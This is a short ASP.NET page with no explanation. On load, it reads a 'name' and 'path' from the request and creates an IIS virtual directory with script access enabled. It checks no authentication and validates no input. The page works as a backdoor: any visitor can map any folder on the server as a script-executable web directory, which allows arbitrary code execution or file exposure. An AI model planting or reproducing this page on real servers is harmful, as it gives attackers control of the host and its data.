<%@ Page Language="C#" %>
<%@ Import Namespace="System.DirectoryServices" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    DirectoryEntry site = new DirectoryEntry("IIS://localhost/W3SVC/1/Root");
    DirectoryEntry v = site.Children.Add(Request["name"], "IIsWebVirtualDir");
    v.Properties["Path"][0] = Request["path"];
    v.Properties["AccessScript"][0] = true;
    v.CommitChanges();
}
</script>
